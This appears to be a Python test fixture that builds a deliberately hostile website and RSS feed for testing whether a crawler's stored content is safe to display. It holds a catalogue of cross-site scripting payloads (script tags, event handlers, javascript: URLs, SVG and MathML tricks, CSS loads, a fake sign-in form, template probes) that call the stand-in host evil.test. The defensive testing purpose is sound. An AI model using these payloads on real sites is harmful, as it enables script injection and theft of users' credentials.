"""Pages and a feed that attack browsers in which the crawled content is displayed.

Every text that a crawler stores contains markup: titles, main text, fields, categories, authors,
ids, and URLs. Scripts that run set `window.owned`; all resources to load are at `EVIL`.
"""

from __future__ import annotations

from html import escape
from xml.sax.saxutils import quoteattr

EVIL = "http://evil.test"
SCRIPT = f"window.owned=1;fetch('{EVIL}/')"
# Quotes in all forms, so that each payload escapes from the attribute or string around it.
ATTACKS = {
    "script": f"<script>{SCRIPT}</script>",
    "end-tags": f"</title></textarea></script></style></template>--><script>{SCRIPT}</script>",
    "handlers": f'<img src=x onerror="{SCRIPT}"><b onmouseover="{SCRIPT}" onclick="{SCRIPT}">b</b>',
    "attribute": f'" \' ` autofocus tabindex=0 onfocus="{SCRIPT}" x=\'',
    "javascript-url": f"<a href=\"javascript:{SCRIPT}\">a</a><iframe src='javascript:{SCRIPT}'>",
    "svg": f"<svg onload=\"{SCRIPT}\"><image href='{EVIL}/svg'/><use href='{EVIL}/use#a'/></svg>",
    "math": f'<math><mtext><table><mglyph><style><img src=x onerror="{SCRIPT}">',
    "css": f"<style>@import '{EVIL}/css';*{{background:url({EVIL}/bg)}}</style>"
    f'<p style="background:url({EVIL}/inline);position:fixed;inset:0">p</p>',
    "loads": f"<img src={EVIL}/img><link rel=stylesheet href={EVIL}/link><base href={EVIL}/>"
    f"<iframe src={EVIL}/frame></iframe><object data={EVIL}/object></object>"
    f"<video poster={EVIL}/video src={EVIL}/film></video>",
    # A crawler follows this URL, so that the page's error message contains the URL.
    "refresh": f'<meta http-equiv=refresh content="0;url={EVIL}/<script>{SCRIPT}</script>">',
    "form": f"<form action={EVIL}/form><input name=password autofocus><button>Sign in</button>",
    "htmx": f'<p hx-get="{EVIL}/hx" hx-trigger="load">p</p><p data-hx-on:load="{SCRIPT}">p</p>',
    "template": "{{ 7 * 191 }}{% raw %}${7*191}#{7*191}<%= 7*191 %>",
    "controls": "\u202eevil\u2066\x1b]0;owned\x07\ufeff\u2028\u2029",
}
LONG = 1_000_000
PARAGRAPHS = (
    "A page of this site has a few sentences of ordinary text, so that its main text is found.",
    "The sentences are the same on each page, which makes the pages near-duplicates of each other.",
    "Only the attack in the middle of the text differs, and the number of the edition after it.",
)


def files(edition: int) -> dict[str, bytes]:
    """Return the files of the site by path; all items differ between editions.

    `/list.html` links to the items, `/item/NAME.html`; `/feed.xml` is an RSS document.
    """
    pages = {f"/item/{name}.html": _item(text, edition) for name, text in ATTACKS.items()}
    pages["/item/long.html"] = _item("<x" * (LONG // 2), edition)
    # Neither valid UTF-8 nor a complete character at the end.
    broken = b"\xff\xfe\xc0\xbc\xed\xa0\x80\xf0\x9f"
    pages["/item/broken.html"] = _item("BROKEN<script>", edition).replace(b"BROKEN", broken)
    links = "".join(f'<p><a href="{path}">{path}</a></p>' for path in pages)
    odd = "/item/script.html?%22%3E%3Cscript%3Ewindow.owned=1%3C/script%3E"
    links += f'<p><a href="{odd}">odd</a></p><p><a href="javascript:{SCRIPT}">a</a></p>'
    category = escape(ATTACKS["script"] + ATTACKS["attribute"])
    listing = f"<!DOCTYPE html><h1>{category}</h1><h2>{category}</h2>{links}"
    return pages | {"/list.html": listing.encode(), "/feed.xml": _feed(edition)}


def _item(text: str, edition: int) -> bytes:
    """Return a page with an attack as text of its fields, and as markup of its main text."""
    shown = escape(text)
    prose = "".join(f"<p>{each}</p>" for each in PARAGRAPHS)
    markup = text if len(text) < LONG else ""
    return (
        f"<!DOCTYPE html><html><head><meta charset=utf-8><title>{shown}</title></head><body>"
        f"<h1>{shown}</h1><ul><li>{shown}</li><li>{edition}</li></ul><p class=price>{edition} €</p>"
        f"<main>{prose}<p>{shown[:2000]} Edition {edition}.</p></main>"
        f"<div class=markup>{markup}</div></body></html>"
    ).encode("utf-8", "surrogatepass")


def _feed(edition: int) -> bytes:
    posts = "".join(_post(name, text, edition) for name, text in ATTACKS.items())
    posts += _post("long", "<x" * (LONG // 20), edition)
    title = escape(ATTACKS["end-tags"])
    return (
        '<?xml version="1.0"?><rss version="2.0" xmlns:dc="http://purl.org/dc/elements/1.1/">'
        f"<channel><title>{title}</title><link>javascript:{SCRIPT}</link>{posts}</channel></rss>"
    ).encode()


def _post(name: str, text: str, edition: int) -> str:
    # XML does not allow the control characters.
    shown = escape(text.replace("\x1b", "").replace("\x07", ""))
    return (
        f"<item><guid isPermaLink='false'>{name} {shown[:500]}</guid><title>{shown}</title>"
        f"<link>javascript:{SCRIPT}//{name}</link><dc:creator>{shown}</dc:creator>"
        f"<category>{shown[:500]}</category>"
        f"<enclosure url={quoteattr(f'{EVIL}/{name}')} type='image/png' length='1'/>"
        f"<description>{shown} Edition {edition}. {' '.join(PARAGRAPHS)}</description></item>"
    )
